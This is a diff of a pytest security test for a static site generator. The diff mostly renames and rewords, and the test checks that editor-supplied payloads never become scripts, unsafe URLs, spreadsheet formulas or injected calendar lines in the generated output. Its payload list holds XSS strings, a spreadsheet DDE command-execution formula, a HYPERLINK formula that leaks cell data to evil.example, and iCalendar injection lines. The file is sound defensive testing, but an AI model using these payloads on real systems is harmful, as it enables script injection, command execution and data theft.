@@ -1,7 +1,7 @@
-"""Nothing that an editor writes becomes script, style, a foreign frame or an unsafe address, in any output.
+"""Nothing that an editor writes becomes a script, a style, a foreign frame, or an unsafe URL in any output.
 
-Every payload goes through every field of every type of the shipped site, and of the made-up ones; what comes out is read by parsers that are
-not ours. A payload that a field refuses is left out, as its message says.
+Every payload goes through every field of every type of the shipped site and the made-up test content. Third-party parsers read the output. A
+payload that a field rejects is removed, after a check that the message names its file.
 """
 
 import csv
@@ -26,7 +26,7 @@ sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "Language")
 from hostile import VALUES  # noqa: E402
 
 HTML = "{http://www.w3.org/1999/xhtml}"
-ALSO = [
+MORE_VALUES = [
     # Formulas of spreadsheets, lines of calendars, headers and redirects.
     "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example/?x=\"&A1)", "\uff1d1+1",
     "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE", "x\nATTACH:https://evil.example/", "x;CN=evil:mailto:evil@evil.example", "x\\nATTENDEE:y",
@@ -42,23 +42,23 @@ ALSO = [
     ":::quote{by=\"' onclick='alert(1)\" source=\"javascript:x\"}\nx\n:::", "> [!NOTE]<script>\n> x", "www.example.org/\"onclick=alert(1)",
     "https://e.example/<script>", "a@b.example?subject=<script>", "|a|\n|-|\n|<script>alert(1)</script>|", "~~<b onclick=x>~~", "- [x] <input autofocus onfocus=alert(1)>",
 ]
-# Longer values are too long for the address of a list, which the type then is blamed for.
-PAYLOADS = [value for value in VALUES if len(value) < 200] + ALSO
+# Longer values make the URL of a list page too long, which is reported at the type.
+PAYLOADS = [value for value in VALUES if len(value) < 200] + MORE_VALUES
 COLLECTIONS = ["members", "chapters", "briefs", "news", "places", "topics", "events", "adoptions"]
 
 
-def test_there_are_enough():
+def test_there_are_enough_payloads():
     assert len(PAYLOADS) >= 100
 
 
 def filled(fields: dict, payload: str, kinds: set[str]) -> dict:
-    """Front matter with the payload in each field of one of the `kinds`, and something fitting in those that are required."""
+    """Front matter with the payload in each field of one of the `kinds`, and a valid value in each required field."""
     return {name: value for name, field in fields.items() if (value := value_of(field, payload, kinds)) is not None}
 
 
 def value_of(field: dict, payload: str, kinds: set[str]) -> object:
     kind = field["type"]
-    # What is private is looked for in the output, where the payloads stand.
+    # The build searches the output for private values, and would find the payloads.
     if field.get("private"):
         return None
     if kind == "list":
@@ -78,7 +78,7 @@ def value_of(field: dict, payload: str, kinds: set[str]) -> object:
 
 
 def write_documents(content: pathlib.Path) -> None:
-    """A document for each payload, type and kind of fields: those that take any text, and each of those that do not."""
+    """Writes a document for each payload, type, and kind of field."""
     for collection in COLLECTIONS:
         fields = yaml.safe_load((content / collection / "_type.yml").read_text())["fields"]
         kinds = {"text": {"text"}, "markdown": {"markdown"}, "url": {"url"}, "others": {"choice", "image", "reference", "file", "email", "color", "date"}}
@@ -93,7 +93,7 @@ def write_documents(content: pathlib.Path) -> None:
                 values = {"description": common} | ({"title": common} if "title" in fields else {}) | values
                 if collection == "members":
                     values |= {"consent": {"published": True}}
-                # JSON is YAML, but for characters that YAML does not take unescaped.
+                # JSON is valid YAML, except for characters that YAML requires to be escaped.
                 front_matter = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
                 text = body(payload) if kind == "markdown" else "Plain.\n"
                 (content / collection / f"p{number}-{kind}.md").write_text(f"---\n{front_matter}---\n\n{text}\n")
@@ -111,15 +111,15 @@ def body(payload: str) -> str:
 
 @pytest.fixture(scope="module")
 def output(tmp_path_factory) -> pathlib.Path:
-    """The site with every payload that no field refuses. What is refused must say so at its place."""
+    """The output of the site with every payload that no field rejects. Each rejected payload must be reported with its location."""
     folder = tmp_path_factory.mktemp("payloads")
     make_site(folder)
     write_documents(folder / "content")
     written = len(list((folder / "content").rglob("[pq]*-*.md")))
     for _ in range(6):
-        said = subprocess.run(command("output", "--format", "json"), cwd=folder, capture_output=True, text=True, check=False, timeout=300)
-        assert said.returncode in (0, 1), said.stderr
-        errors = [finding for finding in json.loads(said.stdout) if finding["severity"] == "error"]
+        result = subprocess.run(command("output", "--format", "json"), cwd=folder, capture_output=True, text=True, check=False, timeout=300)
+        assert result.returncode in (0, 1), result.stderr
+        errors = [finding for finding in json.loads(result.stdout) if finding["severity"] == "error"]
         if not errors:
             break
         for path in {error["file"] for error in errors}:
@@ -134,10 +134,10 @@ def output(tmp_path_factory) -> pathlib.Path:
     return folder / "output"
 
 
-# What the shipped templates write themselves.
+# Scripts that the shipped templates include.
 SCRIPTS = re.compile(r"(/assets/(finder|search)\.[0-9a-f]+\.js|/pagefind/pagefind-ui\.js)$")
 FOREIGN = {"iframe", "frame", "object", "embed", "applet", "base", "style", "portal", "fencedframe"}
-ADDRESSES = {"href", "src", "action", "formaction", "poster", "data", "cite", "background", "ping", "manifest", "xlink:href"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "cite", "background", "ping", "manifest", "xlink:href"}
 SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\-]*[\x00-\x20]*):", re.I)
 
 
@@ -156,27 +156,27 @@ def problems(page: ElementTree.Element):
             elif not source or not SCRIPTS.search(source) or element.text:
                 yield f"<script src={source}>"
         if name == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
-            address = re.sub(r"^[\d.]+\s*;\s*url=", "", element.get("content"), flags=re.I)
-            if not address.startswith(("/", "https://example.org")):
-                yield f"refresh {address}"
+            url = re.sub(r"^[\d.]+\s*;\s*url=", "", element.get("content"), flags=re.I)
+            if not url.startswith(("/", "https://example.org")):
+                yield f"refresh {url}"
         if name == "link" and "stylesheet" in (element.get("rel") or "") and not re.match(r"/(assets|pagefind)/", element.get("href")):
             yield f"style sheet {element.get('href')}"
         for attribute, value in element.attrib.items():
             attribute = attribute.split("}")[-1].lower()
             if attribute.startswith("on") or attribute in ("srcdoc", "style") and name not in STYLED:
                 yield f"{name} {attribute}={value[:80]}"
-            if attribute in ADDRESSES or attribute == "srcset":
+            if attribute in URL_ATTRIBUTES or attribute == "srcset":
                 bare = re.sub(r"[\x00-\x20]", "", value)
                 scheme = SCHEME.match(bare)
                 if scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel", "webcal"):
                     yield f"{name} {attribute}={value[:80]}"
 
 
-# Elements that the shipped templates give a style.
+# Elements that have a style attribute in the shipped templates.
 STYLED = {"i", "span", "li", "rect", "path", "td", "th", "div"}
 
 
-def test_html(output):
+def test_html_is_safe(output):
     pages = sorted(output.rglob("*.html"))
     assert len(pages) > 500
     if not IS_TORTURE:
@@ -189,7 +189,7 @@ def test_html(output):
     assert found == {}
 
 
-def test_feeds(output):
+def test_feeds_are_safe(output):
     feeds = sorted(output.rglob("feed.xml"))
     assert len(feeds) > 5
     for path in feeds if IS_TORTURE else feeds[:25]:
@@ -207,7 +207,7 @@ def test_feeds(output):
             assert list(problems(html5lib.parse(item.get("content_html", "")))) == [], path
 
 
-def test_exports(output):
+def test_exports_are_safe(output):
     for path in output.rglob("*.json"):
         json.loads(path.read_text(encoding="utf-8"))
     tables = list(output.rglob("*.csv"))
@@ -216,11 +216,11 @@ def test_exports(output):
         rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True))
         assert len({len(row) for row in rows}) == 1, path
         for cell in (cell for row in rows for cell in row):
-            # The formulas of spreadsheets begin with one of these, also behind blanks (OWASP, CSV injection).
+            # Spreadsheet formulas begin with one of these characters, even after spaces (OWASP, CSV injection).
             assert not re.match(r"[=@\t\r]|[+\-](?![\d.]+$)", cell), (path, cell)
 
 
-def test_calendars(output):
+def test_calendars_are_safe(output):
     calendars = list(output.rglob("*.ics"))
     assert calendars
     allowed = {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
@@ -234,20 +234,20 @@ def test_calendars(output):
             assert not {"ATTACH", "ATTENDEE", "ORGANIZER", "X-ALT-DESC"} & set(component.keys()), path
 
 
-def test_lists_of_lines(output):
+def test_sitemaps_and_redirects_are_safe(output):
     for path in output.glob("sitemap*.xml"):
-        for address in ElementTree.fromstring(path.read_bytes()).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
-            assert re.fullmatch(r"https?://[\x21-\x7e]+", address.text), address.text
+        for url in ElementTree.fromstring(path.read_bytes()).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc"):
+            assert re.fullmatch(r"https?://[\x21-\x7e]+", url.text), url.text
     redirects = output / "_redirects"
     for line in redirects.read_text().splitlines() if redirects.exists() else []:
         if line and not line.startswith("#"):
-            # An old address with a query has its parameters in between.
+            # The query parameters of an old URL are between its path and the target.
             source, *parameters, target, status = line.split(" ")
             assert all("=" in parameter for parameter in parameters), line
             assert source.startswith("/") and target.startswith("/") and not target.startswith("//"), line
             assert status in ("301", "302"), line
 
 
-def test_no_file_lies_where_a_payload_says(output):
+def test_no_payload_chooses_an_output_path(output):
     for path in tree(output):
         assert all(part not in ("", ".", "..") and part.isprintable() for part in path.split("/")), path
